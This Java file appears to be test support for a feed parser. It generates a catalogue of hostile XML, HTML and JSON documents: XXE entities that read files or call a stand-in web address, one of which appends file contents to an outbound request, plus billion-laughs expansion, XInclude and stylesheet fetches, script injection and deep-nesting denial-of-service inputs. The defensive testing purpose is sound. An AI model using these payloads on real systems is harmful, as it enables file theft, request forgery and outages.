package newstape.feed;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Documents made to have a reader open files, call addresses, or never end.
 *
 * @param file an address of a file whose content must not turn up
 * @param web an address that must not be called
 */
record Attacks(String file, String web) {
    private static final String ITEM = "<item><title>&x;</title><description>&x;</description></item>";

    /** One document. */
    @SuppressWarnings("ArrayRecordComponent") // never compared
    record Attack(String name, byte[] bytes) {}

    List<Attack> all() {
        List<Attack> all = new ArrayList<>();
        entities(all);
        doctypes(all);
        inclusions(all);
        expansions(all);
        shapes(all);
        contents(all);
        encodings(all);
        return all;
    }

    private void entities(List<Attack> all) {
        add(all, "file entity", doctype("<!ENTITY x SYSTEM '" + file + "'>"));
        add(all, "web entity", doctype("<!ENTITY x SYSTEM '" + web + "'>"));
        add(all, "public entity", doctype("<!ENTITY x PUBLIC 'any' '" + web + "'>"));
        add(all, "file parameter entity", doctype("<!ENTITY % p SYSTEM '" + file + "'> %p;"));
        add(all, "web parameter entity", doctype("<!ENTITY % p SYSTEM '" + web + "'> %p;"));
        add(
                all,
                "parameter entity that makes an entity",
                doctype("<!ENTITY % f SYSTEM '" + file + "'><!ENTITY % e \"<!ENTITY x SYSTEM '" + web
                        + "?%f;'>\"> %e;"));
        add(
                all,
                "entity in an attribute",
                "<!DOCTYPE rss [<!ENTITY x SYSTEM '" + file + "'>]><rss a='&x;'><channel>" + ITEM + "</channel></rss>");
        add(
                all,
                "unparsed entity",
                doctype("<!NOTATION n SYSTEM '" + web + "'><!ENTITY x SYSTEM '" + web + "' NDATA n>"));
        add(
                all,
                "entity in an Atom feed",
                "<!DOCTYPE feed [<!ENTITY x SYSTEM '" + file
                        + "'>]><feed xmlns='http://www.w3.org/2005/Atom'><entry><title>&x;</title></entry></feed>");
        add(
                all,
                "entity in RDF",
                "<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM '" + file + "'>]><rdf:RDF>" + ITEM + "</rdf:RDF>");
        add(all, "jar entity", doctype("<!ENTITY x SYSTEM 'jar:" + web + "!/a'>"));
        add(all, "netdoc entity", doctype("<!ENTITY x SYSTEM 'netdoc:" + file.substring(5) + "'>"));
        add(all, "ftp entity", doctype("<!ENTITY x SYSTEM 'ftp" + web.substring(4) + "'>"));
        add(all, "entity defined twice", doctype("<!ENTITY x 'a'><!ENTITY x SYSTEM '" + file + "'>"));
    }

    private void doctypes(List<Attack> all) {
        add(
                all,
                "external subset",
                "<!DOCTYPE rss SYSTEM '" + web + "/a.dtd'><rss><channel>" + ITEM + "</channel></rss>");
        add(
                all,
                "external subset in a file",
                "<!DOCTYPE rss SYSTEM '" + file + "'><rss><channel>" + ITEM + "</channel></rss>");
        add(
                all,
                "public identifier",
                "<!DOCTYPE rss PUBLIC '-//Netscape Communications//DTD RSS 0.91//EN' '" + web + "'><rss><channel>"
                        + ITEM + "</channel></rss>");
        add(all, "doctype that never ends", "<!DOCTYPE rss [" + "<!ENTITY a 'b'>".repeat(100_000));
        add(all, "doctype of brackets", "<!DOCTYPE rss " + "[<".repeat(500_000) + "><rss><channel>" + ITEM);
        add(
                all,
                "doctype in the middle",
                "<rss><channel><!DOCTYPE rss [<!ENTITY x SYSTEM '" + file + "'>]>" + ITEM + "</channel></rss>");
        add(
                all,
                "many doctypes",
                ("<!DOCTYPE rss [<!ENTITY x SYSTEM '" + web + "'>]>").repeat(10_000) + "<rss><channel>" + ITEM);
        add(all, "default attributes", doctype("<!ATTLIST rss a CDATA '" + "b".repeat(1_000_000) + "'>"));
        add(all, "conditional section", doctype("<![INCLUDE[<!ENTITY x SYSTEM '" + file + "'>]]>"));
    }

    private void inclusions(List<Attack> all) {
        add(
                all,
                "XInclude of a file",
                rss("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + file + "' parse='text'/>"));
        add(
                all,
                "XInclude of the web",
                rss("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='" + web + "'/>"));
        add(all, "stylesheet", "<?xml-stylesheet type='text/xsl' href='" + web + "/a.xsl'?>" + rss(ITEM));
        add(
                all,
                "stylesheet in the feed",
                "<?xml-stylesheet type='text/xsl' href='#s'?><rss><xsl:stylesheet id='s' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:include href='"
                        + web + "'/></xsl:stylesheet><channel>" + ITEM + "</channel></rss>");
        add(
                all,
                "schema location",
                "<rss xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='a " + web
                        + "'><channel>" + ITEM + "</channel></rss>");
        add(all, "namespace that is an address", "<rss xmlns='" + web + "'><channel>" + ITEM + "</channel></rss>");
        add(
                all,
                "base that is a file",
                "<rss xml:base='" + file + "'><channel><item><link>secret</link></item></channel></rss>");
        add(all, "links to files", rss("<item><link>" + file + "</link><enclosure url='" + file + "'/></item>"));
    }

    private void expansions(List<Attack> all) {
        String laughs = chain(
                9,
                i -> i == 0 ? "<!ENTITY x0 'ha'>" : "<!ENTITY x" + i + " '" + ("&x" + (i - 1) + ";").repeat(10) + "'>");
        add(all, "billion laughs", doctype(laughs).replace("&x;", "&x8;"));
        String parameters = chain(
                9,
                i -> i == 0
                        ? "<!ENTITY % x0 'ha'>"
                        : "<!ENTITY % x" + i + " '" + ("%x" + (i - 1) + ";").repeat(10) + "'>");
        add(all, "billion laughs of parameters", doctype(parameters + "%x8;"));
        add(
                all,
                "quadratic blow-up",
                doctype("<!ENTITY x '" + "a".repeat(50_000) + "'>")
                        .replace("<title>&x;", "<title>" + "&x;".repeat(50_000)));
        add(all, "entity that holds itself", doctype("<!ENTITY x '&y;'><!ENTITY y '&x;'>"));
        add(all, "a million references", rss("<item><title>" + "&amp;".repeat(1_000_000) + "</title></item>"));
        add(all, "a million unknown references", rss("<item><title>" + "&x;".repeat(1_000_000) + "</title></item>"));
    }

    private void shapes(List<Attack> all) {
        add(all, "a million nested elements", "<rss><channel>" + "<a>".repeat(1_000_000));
        add(all, "a million nested items", "<rss><channel>" + "<item>".repeat(1_000_000));
        add(all, "nested titles", "<rss><channel><item>" + "<title>".repeat(300_000));
        add(all, "nested bases", "<rss><channel>" + "<item xml:base='a/'>".repeat(200_000));
        add(all, "a million wrong ends", "<rss><channel>" + "<a>".repeat(200_000) + "</b>".repeat(800_000));
        add(all, "a huge attribute", rss("<item a='" + "b".repeat(10_000_000) + "'/>"));
        add(
                all,
                "a million attributes",
                "<rss " + chain(1_000_000, i -> "a" + i + "='' ") + "><channel>" + ITEM + "</channel></rss>");
        add(
                all,
                "a hundred thousand namespaces",
                "<rss><channel>" + chain(100_000, i -> "<a xmlns:n" + i + "='u" + i + "'>"));
        add(all, "a name without end", "<rss><channel><" + "a".repeat(10_000_000));
        add(all, "a comment without end", "<rss><channel>" + ITEM + "<!--" + "-".repeat(10_000_000));
        add(all, "CDATA without end", "<rss><channel><item><title><![CDATA[" + "]".repeat(10_000_000));
        add(all, "openers alone", "<rss><channel>" + "<".repeat(10_000_000));
        add(all, "a million empty items", rss("<item/>".repeat(990_000)));
        add(
                all,
                "categories in one item",
                rss("<item>" + chain(150_000, i -> "<category>c" + i + "</category>") + "</item>"));
        add(all, "nested braces", "{\"items\":" + "[".repeat(5_000_000));
        add(all, "a number without end", "{\"items\":[" + "9".repeat(5_000_000) + "]}");
    }

    private void contents(List<Attack> all) {
        html(all, "script", "<script src='" + web + "'></script><script>x()</script>");
        html(all, "svg", "<svg onload='x()'><script href='" + web + "'/><image href='" + web + "'/></svg>");
        html(
                all,
                "frames",
                "<iframe src='" + web + "'></iframe><object data='" + file + "'></object><embed src='" + web + "'>");
        html(all, "style", "<style>@import '" + web + "';</style><p style='background:url(" + web + ")'>Up</p>");
        html(all, "file picture", "<img src='" + file + "' onerror='x()'>");
        html(all, "nested divisions", "<div>".repeat(500_000));
        html(all, "formatting that is reopened", chain(20_000, i -> "<b a" + i + "=1><p>"));
        html(all, "tables in tables", "<table><tr><td>".repeat(100_000));
        html(all, "links in links", "<a href='x'><p>".repeat(100_000));
        add(
                all,
                "formatting that is reopened in every item",
                rss(("<item><description><![CDATA[" + chain(1_000, i -> "<b a" + i + "=1><p>")
                                + "]]></description></item>")
                        .repeat(800)));
        add(
                all,
                "tag names without end",
                "<rss><channel>" + chain(4_000, i -> "<" + "a".repeat(250) + i + ">") + "</" + "a".repeat(5_000_000));
        add(all, "attribute names without end", "<rss><channel><a " + "b".repeat(5_000_000));
        add(all, "a doctype's name without end", "<!DOCTYPE " + "b".repeat(5_000_000));
        add(all, "an instruction without end", "<?" + "b".repeat(5_000_000));
        html(all, "a tag name without end", "<" + "a".repeat(900_000));
        html(all, "an attribute name without end", "<a " + "b".repeat(900_000));
        add(all, "titles of markup", rss("<item><title>" + "&lt;b ".repeat(500_000) + "</title></item>"));
        add(all, "authors of brackets", rss("<item><author>" + "( , ".repeat(500_000) + "</author></item>"));
        add(all, "a date without end", rss("<item><pubDate>" + "1 Jan ".repeat(500_000) + "</pubDate></item>"));
        add(all, "a link without end", rss("<item><link>http://" + "a.".repeat(1_000_000) + "</link></item>"));
        add(all, "a link up and up", rss("<item><link>/" + "../".repeat(2_000) + "a</link></item>"));
    }

    private void encodings(List<Attack> all) {
        String entity = doctype("<!ENTITY x SYSTEM '" + file + "'>");
        all.add(new Attack("entity in UTF-16", ("\uFEFF" + entity).getBytes(UTF_16BE)));
        all.add(new Attack(
                "entity in UTF-7",
                ("<?xml version='1.0' encoding='UTF-7'?>+ADw-+ACE-DOCTYPE rss" + entity).getBytes(UTF_8)));
        add(all, "an unknown encoding", "<?xml version='1.0' encoding='" + "x".repeat(100_000) + "'?>" + entity);
        all.add(new Attack("zeros", new byte[10_000_000]));
        all.add(new Attack("noise", noise()));
    }

    private void html(List<Attack> all, String name, String html) {
        add(all, name, rss("<item><description><![CDATA[" + html + "]]></description></item>"));
    }

    private static byte[] noise() {
        byte[] noise = new byte[2_000_000];
        new Random(7).nextBytes(noise);
        noise[0] = '<';
        return noise;
    }

    private static String doctype(String subset) {
        return "<?xml version='1.0'?><!DOCTYPE rss [" + subset + "]><rss><channel>" + ITEM + "</channel></rss>";
    }

    private static String rss(String inChannel) {
        return "<?xml version='1.0'?><rss version='2.0'><channel>" + inChannel + "</channel></rss>";
    }

    private static String chain(int times, IntFunction<String> part) {
        return IntStream.range(0, times).mapToObj(part).collect(Collectors.joining());
    }

    private static void add(List<Attack> all, String name, String text) {
        all.add(new Attack(name, text.getBytes(UTF_8)));
    }
}
